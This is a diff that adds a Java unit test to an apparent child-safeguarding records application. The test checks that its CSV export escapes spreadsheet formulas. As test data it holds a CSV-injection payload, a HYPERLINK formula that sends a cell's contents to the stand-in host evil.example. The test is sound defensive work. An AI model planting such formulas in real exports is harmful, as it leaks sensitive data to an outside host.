@@ -271,4 +271,39 @@ class SharingDecisionsTest {
         current = schoolLead;
         assertTrue(decisions.organisationLog(null).stream().filter(d -> d.id() == correction).findFirst().orElseThrow().correctable());
     }
+
+    /**
+     * CSV injection (issue 25): a practitioner's reasons written as a spreadsheet formula come out of the organisation's
+     * CSV as text (a single quote in front), and every other text cell the same way; the entry numbers stay numbers.
+     */
+    @Test
+    void theCsvExportNeverHandsASpreadsheetAFormula() throws Exception {
+        current = teacher;
+        String formula = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Open the case\")";
+        long id = decisions.record(new DecisionDetails(SharingDecision.Kind.NOT_SHARED, COUNCIL, null, LocalDate.of(2026, 11, 20),
+                Set.of("CHILD"), Set.of("EDUCATION_DATA"), "CHILD_IN_NEED", "A6-1-e", null, SharingDecision.NoAgreement.OTHER,
+                Outcome.NOT_COVERED, false, false, "+1 would put the child at risk", false, null, "@SUM(1+1) not relevant",
+                formula, "CS-2026-4471")).id();
+        long correction = decisions.correct(id, notShared("-2 days since the last visit; asked the DPO.")).id();
+
+        current = schoolLead;
+        String csv = decisions.csv(null);
+        List<org.apache.commons.csv.CSVRecord> rows = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader()
+                .setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv)).getRecords();
+        assertEquals(2, rows.size(), csv);
+        org.apache.commons.csv.CSVRecord newer = rows.get(0);
+        org.apache.commons.csv.CSVRecord older = rows.get(1);
+        assertEquals(String.valueOf(correction), newer.get("Entry"), "an entry number is written as a number");
+        assertEquals(String.valueOf(id), newer.get("Corrects entry"));
+        assertEquals("'-2 days since the last visit; asked the DPO.", newer.get("Reasons"));
+        assertEquals("'" + formula, older.get("Reasons"), csv);
+        assertEquals("'+1 would put the child at risk", older.get("Why not informed"));
+        assertEquals("'@SUM(1+1) not relevant", older.get("Why consent not sought"));
+        assertEquals("CS-2026-4471", older.get("Case reference"), "other text untouched");
+        for (org.apache.commons.csv.CSVRecord row : rows) {
+            for (String cell : row) {
+                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a formula cell: " + cell);
+            }
+        }
+    }
 }
